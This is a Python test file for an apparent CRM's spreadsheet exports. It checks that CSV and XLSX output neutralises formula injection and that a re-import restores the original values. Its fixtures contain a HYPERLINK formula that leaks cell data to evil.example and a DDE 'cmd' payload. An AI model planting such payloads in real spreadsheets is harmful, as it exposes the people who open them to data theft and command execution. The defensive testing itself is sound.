"""No export carries a live formula, and an export still re-imports exactly (issue 9: B10).

Text cells that would start a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return) are
written behind a ``'``; numbers stay numbers (a credit note is -120.00, a number in Excel);
re-importing the files takes exactly that ``'`` off again.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from accord.core.cells import neutralise, restore

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ACCOUNTS = f'''external_id,name,kind,segment,business_line,manager_email,parent_external_id,status
"@SUM(A1)","{HYPERLINK.replace('"', '""')}",company,+1,-x,owner@accord.test,,active
PLAIN,''=already quoted,company,'hello,-,owner@accord.test,@SUM(A1),active
'''
CONTACTS = """external_id,account_external_id,name,email,function,seniority,buying_role
-C1,@SUM(A1),=cmd|' /C calc'!A0,ann@example.com,+Procurement,director,
"""
REVENUE = """account_external_id,date,amount,product_line,line_id
@SUM(A1),2024-01-15,1200.00,=Widgets,+1
@SUM(A1),2024-02-15,-120.00,-x,CN-7
PLAIN,2024-01-31,99.95,@Services,
PLAIN,2024-03-31,999999999999999.99,big,
"""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "'=x",
                                  "''+x", "'plain", "plain", "", "-", "'"])
def test_neutralise_then_restore_is_exact(text):
    written = neutralise(text)
    assert written[:1] not in FORMULA_STARTS
    assert restore(written) == text


def test_numbers_and_other_values_are_left_alone():
    assert neutralise(Decimal("-120.00")) == Decimal("-120.00")
    assert neutralise(-3) == -3 and neutralise(None) is None
    assert restore("'hello") == "'hello" and restore("-120.00") == "-120.00"


def _import(sessions, user, kind, data, name):
    from accord.exchange.importing import run_import

    with sessions() as session:
        report = run_import(session, session.merge(user), kind, io.BytesIO(data), filename=name)
        session.commit()
    return report


def _export(sessions, user, kind, fmt) -> bytes:
    from accord.exchange import exporting

    out = io.BytesIO()
    with sessions() as session:
        exporting.export(session, session.merge(user), kind, fmt, out)
    return out.getvalue()


def _load(sessions, cast) -> None:
    for kind, body in (("accounts", ACCOUNTS), ("contacts", CONTACTS), ("revenue", REVENUE)):
        report = _import(sessions, cast.admin, kind, body.encode(), f"{kind}.csv")
        assert report.status == "imported", report.problems


def _no_formula(cells) -> None:
    for cell in cells:
        if isinstance(cell, str):
            assert cell[:1] not in FORMULA_STARTS, cell


def test_csv_exports_neutralise_text_and_keep_numbers(sessions, cast):
    _load(sessions, cast)
    accounts = list(csv.reader(io.StringIO(_export(sessions, cast.admin, "accounts",
                                                   "csv").decode())))
    by_id = {row[0]: row for row in accounts[1:]}
    assert by_id["'@SUM(A1)"][1:5] == ["'" + HYPERLINK, "company", "'+1", "'-x"]
    assert by_id["PLAIN"][1:7] == ["''=already quoted", "company", "'hello", "'-",
                                   "owner@accord.test", "'@SUM(A1)"]
    contacts = list(csv.reader(io.StringIO(_export(sessions, cast.admin, "contacts",
                                                   "csv").decode())))
    assert contacts[1][:5] == ["'-C1", "'@SUM(A1)", "=cmd|' /C calc'!A0".join(["'", ""]),
                               "ann@example.com", "'+Procurement"]
    revenue = list(csv.reader(io.StringIO(_export(sessions, cast.admin, "revenue",
                                                  "csv").decode())))
    assert sorted(revenue[1:]) == sorted([
        ["'@SUM(A1)", "2024-01-15", "1200.00", "'=Widgets", "'+1"],
        ["'@SUM(A1)", "2024-02-15", "-120.00", "'-x", "CN-7"],  # a credit note: a number
        ["PLAIN", "2024-01-31", "99.95", "'@Services", ""],
        ["PLAIN", "2024-03-31", "999999999999999.99", "big", ""],
    ])
    for row in accounts + contacts:
        _no_formula(row)
    for row in revenue:
        _no_formula(row[:2] + row[3:])


def test_xlsx_exports_hold_no_formula_and_amounts_as_numbers(sessions, cast):
    _load(sessions, cast)
    for kind in ("accounts", "contacts", "revenue"):
        sheet = load_workbook(io.BytesIO(_export(sessions, cast.admin, kind, "xlsx"))).active
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (kind, cell.coordinate, cell.value)
                if cell.data_type == "s":
                    _no_formula([cell.value])
    sheet = load_workbook(io.BytesIO(_export(sessions, cast.admin, "revenue", "xlsx"))).active
    amounts = {r[4].value or r[3].value: r[2].value
               for r in sheet.iter_rows(min_row=2)}
    assert amounts["CN-7"] == -120 and isinstance(amounts["CN-7"], (int, float))
    assert amounts["'+1"] == 1200 and amounts["'@Services"] == pytest.approx(99.95)
    assert amounts["big"] == "999999999999999.99"  # past a double's digits: exact text
    credit = next(r for r in sheet.iter_rows(min_row=2) if r[4].value == "CN-7")
    assert credit[2].number_format == "0.00"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_reimporting_an_export_is_exact(sessions, cast, fmt):
    _load(sessions, cast)
    for kind in ("accounts", "contacts", "revenue"):
        before = _export(sessions, cast.admin, kind, "csv")
        data = _export(sessions, cast.admin, kind, fmt)
        report = _import(sessions, cast.admin, kind, data, f"{kind}.{fmt}")
        assert (report.status, report.inserted, report.updated) == ("imported", 0, 0), \
            (kind, report.problems)
        assert report.unchanged == report.rows > 0
        assert _export(sessions, cast.admin, kind, "csv") == before
    with sessions() as session:
        from accord.accounts.models import Account

        names = sorted(a.name for a in session.query(Account).filter(
            Account.external_id.in_(["@SUM(A1)", "PLAIN"])))
    assert names == sorted([HYPERLINK, "'=already quoted"])


def test_dashboard_exports_hold_no_formula(sessions, cast):
    from accord.kpis import exporting, report

    _load(sessions, cast)
    with sessions() as session:
        tables = report.export_tables(session, session.merge(cast.admin), table="accounts",
                                      movement="new", today=date(2024, 4, 10),
                                      as_of="2024-03")
    (table,) = tables
    assert HYPERLINK in [row[1] for row in table.rows]
    rows = list(csv.reader(io.StringIO(exporting.to_csv(table))))
    assert ["'" + HYPERLINK] == [r[1] for r in rows[1:] if "HYPERLINK" in r[1]]
    for row in rows:
        _no_formula(row[1:6])
    book = load_workbook(io.BytesIO(exporting.to_xlsx(tables)))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_the_decisions_export_holds_no_formula(sessions, cast):
    from accord.relationships import decisions
    from kam_helpers import TODAY, add_revenue, make_account, steady

    with sessions.begin() as s:
        big = make_account(s, HYPERLINK, cast.owner.id, segment="-x",
                           spend_cents=10_000_000_000)
        add_revenue(s, big, steady(100_000_000))
    with sessions() as s:
        admin = s.merge(cast.admin)
        text = "".join(decisions.export_csv(s, admin, today=TODAY))
        book = load_workbook(io.BytesIO(decisions.export_xlsx(s, admin, today=TODAY)))
    rows = list(csv.reader(io.StringIO(text)))
    assert any("'" + HYPERLINK in row for row in rows[1:]), rows
    for row in rows:
        _no_formula(row)
    for row in book.active.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
